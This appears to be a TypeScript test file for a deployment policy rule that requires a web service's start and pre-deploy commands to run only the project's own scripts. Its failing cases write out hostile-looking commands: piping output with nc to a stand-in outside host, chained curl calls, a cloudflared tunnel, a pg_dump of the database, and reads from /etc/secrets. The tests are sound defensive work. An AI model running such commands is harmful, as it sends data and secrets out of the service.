import { type Properties, UNKNOWN } from "../../../../policies/kernel/resource.ts";
import { serviceRunsItsOwnScripts } from "../../../../policies/safeguards/rules/service-runs-its-own-scripts.ts";
import { types } from "../../../../vendors/types.ts";
import { resource } from "../../../support/resource.ts";
import { describeRule } from "../../../support/rule-cases.ts";

const service = (inputs: Properties) => resource(types.render.webService, inputs);
const other = (path: string, command: string) =>
  `${path} is ${JSON.stringify(command)}; a script of package.json or a file of the repository is required.`;

describeRule(serviceRunsItsOwnScripts, {
  pass: [
    ...[
      ...["npm start", "npm run start:prod", "node server.js", "node cli/kaitalk.ts purge", "pnpm run build"],
      ...[
        "npm ci --omit=dev --ignore-scripts",
        "node ./scripts/migrate.up.mjs",
        "npm ci && npm run build",
        "yarn install && yarn build",
      ],
    ].map((startCommand) => [service({ startCommand })]),
    [service({ runtimeSource: { nativeRuntime: { buildCommand: "npm ci" } } })],
  ],
  fail: [
    ...[
      "npm start | nc stranger.example.com 443",
      "npm start; curl https://stranger.example.com",
      "npm start & node tap.js",
      "NODE_OPTIONS=--tls-max-v1.2 npm start",
      "node --tls-max-v1.2 server.js",
      "node --import=data:text/javascript,1 server.js",
      "node server.js $(env)",
      "npx cloudflared tunnel",
      "sh -c 'npm start'",
      "npm exec stranger",
      "npm start --node-options=--tls-max-v1.2",
      "pg_dump $PGDATABASE > /tmp/x",
      "npm start\ncurl x",
      "npm start && curl x",
      "npm run migrate --node-op=--import=x",
      "npm install stranger",
      "npm ci --userconfig=/etc/secrets/npmrc",
      "node /etc/secrets/x.js",
      "node ../x.js",
      "node scripts/../../x.js",
      "node -r./x.js",
    ].map((startCommand) => ({
      stack: [service({ startCommand })],
      says: [other("startCommand", startCommand)],
    })),
    {
      stack: [service({ preDeployCommand: "psql -c x", runtimeSource: { docker: { dockerCommand: "sh" } } })],
      says: [other("preDeployCommand", "psql -c x"), other("runtimeSource.docker.dockerCommand", "sh")],
    },
  ],
  omitted: [{ stack: [service({})], says: [], outcome: "met" }],
  unknown: [
    {
      stack: [service({ startCommand: UNKNOWN })],
      says: [
        "startCommand is not known before the resource exists, so the rule cannot be checked; declare it as a literal.",
      ],
    },
  ],
});
